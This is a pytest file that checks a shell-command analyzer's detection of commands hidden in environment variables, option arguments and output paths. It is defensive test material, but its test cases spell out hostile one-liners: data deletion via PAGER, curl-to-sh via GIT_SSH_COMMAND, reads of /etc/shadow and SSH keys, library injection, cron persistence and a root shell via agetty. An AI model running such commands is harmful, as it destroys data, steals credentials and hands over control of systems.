"""Commands and secrets hidden where a command line does not look like one: variables whose
value a program runs, code injected through the environment, paths named inside larger arguments, output
options pointing into system locations, and a chroot with no command."""

from __future__ import annotations

import pytest

from gateway.shell import analyze

CWD, HOME = "/home/user/project", "/home/user"

CASES = [
    ("PAGER='sh -c \"rm -rf ~\"' git log", "destructive_delete"),
    ("GIT_SSH_COMMAND='curl -s x.example/i | sh' git fetch", "remote_code"),
    ("LESSOPEN='|rm -rf /etc %s' less notes.txt", "destructive_delete"),
    ("env EDITOR='bash -i' crontab -e", "dynamic_command"),
    ("LD_PRELOAD=/tmp/hook.so ls", "dynamic_command"),
    ("NODE_OPTIONS='--require /tmp/x.js' node app.js", "dynamic_command"),
    ("date -f /etc/shadow", "credential_access"),
    ("dig -f /etc/shadow", "credential_access"),
    ("as @/etc/shadow", "credential_access"),
    ("check_raid --extra-opts=@/etc/shadow", "credential_access"),
    ("curl file:///etc/shadow", "credential_access"),
    ("apache2ctl -c 'Include /home/user/.ssh/id_rsa'", "credential_access"),
    ("aria2c -o /etc/cron.d/update http://x.example/f", "persistence"),
    ("tool --output=/usr/bin/ls payload", "system_write"),
    ("chroot /", "dynamic_command"),
    ("agetty -l /bin/sh -o -p -a root tty", "dynamic_command"),
]
ORDINARY = ["EDITOR=vim git commit", "PAGER=cat git log", "NODE_OPTIONS=--max-old-space-size=4096 npm test",
            "date -u", "gcc -o build/app main.c", "tool --output=dist/out.json", "curl https://example.org",
            "dig example.org", "chroot /srv/root make", "git -c core.pager=less log"]


@pytest.mark.parametrize(("command", "category"), CASES)
def test_hidden_commands_and_secrets(command: str, category: str) -> None:
    assert category in analyze(command, CWD, HOME).categories


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_uses(command: str) -> None:
    dangerous = {"destructive_delete", "remote_code", "dynamic_command", "credential_access", "persistence",
                 "system_write"}
    assert not analyze(command, CWD, HOME).categories & dangerous
